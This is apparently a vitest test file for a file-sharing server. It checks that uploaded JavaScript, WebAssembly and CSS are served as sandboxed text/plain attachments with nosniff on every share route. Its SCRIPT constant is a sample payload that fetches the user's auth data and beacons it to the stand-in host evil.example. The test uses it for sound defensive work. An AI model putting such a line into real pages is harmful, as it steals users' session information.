import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeHttp, type HttpTest, type Reply } from '../support/http.js';

/**
 * Stored types a page of our origin could load as code (a script, a module, a worker, WebAssembly, a style sheet),
 * as clients declare them (any case, with parameters), and the essence the File view keeps. Text types whose bytes
 * are UTF-8 keep their charset; the `application/x-` ones are not known as text (`isTextual`), so they name none.
 */
const UTF8 = 'text/plain; charset=utf-8';
const CODE: Array<[declared: string, name: string, stored: string, served: string]> = [
  ['text/javascript; charset=utf-8', 'app.js', 'text/javascript', UTF8],
  ['application/javascript', 'app', 'application/javascript', UTF8],
  ['text/ecmascript', 'app.es', 'text/ecmascript', UTF8],
  ['application/ecmascript', 'app.es', 'application/ecmascript', UTF8],
  ['application/x-javascript', 'legacy.js', 'application/x-javascript', 'text/plain'],
  ['application/x-ecmascript', 'legacy.es', 'application/x-ecmascript', 'text/plain'],
  ['text/x-javascript', 'legacy.js', 'text/x-javascript', UTF8],
  ['TEXT/JavaScript1.5', 'old.js', 'text/javascript1.5', UTF8],
  ['text/jscript', 'old.js', 'text/jscript', UTF8],
  ['text/livescript', 'old.js', 'text/livescript', UTF8],
  ['text/javascript;goal=module', 'module.mjs', 'text/javascript', UTF8],
  ['application/wasm', 'module.wasm', 'application/wasm', 'text/plain'],
  ['text/css', 'style.css', 'text/css', UTF8],
];

const SCRIPT = 'fetch("/api/auth/me").then((r) => r.text()).then((t) => navigator.sendBeacon("//evil.example", t));';
const WASM = Buffer.from([0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00]);

let t: HttpTest;
let token: string;
beforeAll(async () => {
  t = await makeHttp();
  token = await t.userToken('alice');
});
afterAll(() => t.close());

interface Routes {
  fileId: string;
  /** Every address that serves the bytes: owner, share API, share page, a folder share's file route, previews. */
  paths: string[];
}

/** Uploads one file into a folder of its own, shares it and its folder, and lists every route to its bytes. */
async function served(declared: string, name: string, content: string | Buffer): Promise<Routes> {
  const folder = await t.request('POST', '/api/folder', { token, json: { name: `${name} ${declared}` } });
  const file = await t.upload(token, content, { type: declared, filename: name, folderId: folder.body.id });
  expect(file.status, declared).toBe(201);
  const fileShare = await t.request('POST', '/api/share', { token, json: { type: 'file', id: file.body.id } });
  const folderShare = await t.request('POST', '/api/share', { token, json: { type: 'folder', id: folder.body.id } });
  const [fileId, shareId, folderShareId] = [file.body.id, fileShare.body.id, folderShare.body.id] as string[];
  return {
    fileId: fileId!,
    paths: [
      `/api/file/${fileId}/content`,
      `/api/share/${shareId}/content`,
      `/s/${shareId}/content`,
      `/s/${shareId}/content?preview=1`,
      `/s/${folderShareId}/files/${fileId}`,
      `/s/${folderShareId}/files/${fileId}?preview=1`,
    ],
  };
}

function expectPlainAttachment(res: Reply, type: string, name: string, what: string): void {
  expect(res.headers.get('content-type'), what).toBe(type);
  expect(res.headers.get('content-disposition'), what).toMatch(/^attachment;/);
  expect(res.headers.get('content-disposition'), what).toContain(`filename="${name}"`);
  expect(res.headers.get('content-security-policy'), what).toBe('sandbox');
  expect(res.headers.get('x-content-type-options'), what).toBe('nosniff');
}

describe('stored code (scripts, modules, WebAssembly, style sheets)', () => {
  it.each(CODE)('%s is served as a text/plain attachment on every route, and keeps its type in the API', async (declared, name, stored, type) => {
    const content = stored === 'application/wasm' ? WASM : SCRIPT;
    const { fileId, paths } = await served(declared, name, content);
    for (const path of paths) {
      const read = (headers: Record<string, string> = {}) => t.request('GET', path, { token, headers });
      const whole = await read();
      expect(whole.status, path).toBe(200);
      expect(whole.bytes.equals(Buffer.from(content)), path).toBe(true);
      expectPlainAttachment(whole, type, name, `${declared} ${path}`);
      const range = await read({ range: 'bytes=0-3' });
      expect(range.status, path).toBe(206);
      expectPlainAttachment(range, type, name, `${declared} ${path} range`);
      const head = await t.request('HEAD', path, { token });
      expectPlainAttachment(head, type, name, `${declared} ${path} HEAD`);
      const again = await read({ 'if-none-match': whole.headers.get('etag')! });
      expect(again.status, path).toBe(304);
      expect(again.headers.get('x-content-type-options'), path).toBe('nosniff');
    }
    const bySharedRead = await t.request('GET', `/api/file/${fileId}/content`, {
      headers: { 'x-share-id': paths[1]!.split('/')[3]! },
    });
    expectPlainAttachment(bySharedRead, type, name, `${declared} X-Share-Id`);
    // The stored type is what the uploader declared (its essence), in the owner's view and the share's.
    expect((await t.request('GET', `/api/file/${fileId}`, { token })).body.mime).toBe(stored);
    const share = await t.request('GET', `/api/share/${paths[1]!.split('/')[3]}`);
    expect(share.body.file.mime).toBe(stored);
  });

  it('a .js file stored as plain text or bytes keeps its type, as an attachment that no page can run', async () => {
    for (const [declared, type] of [
      ['text/plain', 'text/plain; charset=utf-8'],
      ['application/octet-stream', 'application/octet-stream'],
    ] as const) {
      const { paths } = await served(declared, 'script.js', SCRIPT);
      for (const path of paths) expectPlainAttachment(await t.request('GET', path, { token }), type, 'script.js', path);
    }
  });

  it('passive and other text types are served as they were stored', async () => {
    const png = await t.upload(token, 'x', { type: 'image/png', filename: 'a.png' });
    expect((await t.request('GET', `/api/file/${png.body.id}/content`, { token })).headers.get('content-type')).toBe(
      'image/png',
    );
    const json = await t.upload(token, '{}', { type: 'application/json', filename: 'a.json' });
    expect((await t.request('GET', `/api/file/${json.body.id}/content`, { token })).headers.get('content-type')).toBe(
      'application/json; charset=utf-8',
    );
  });
});
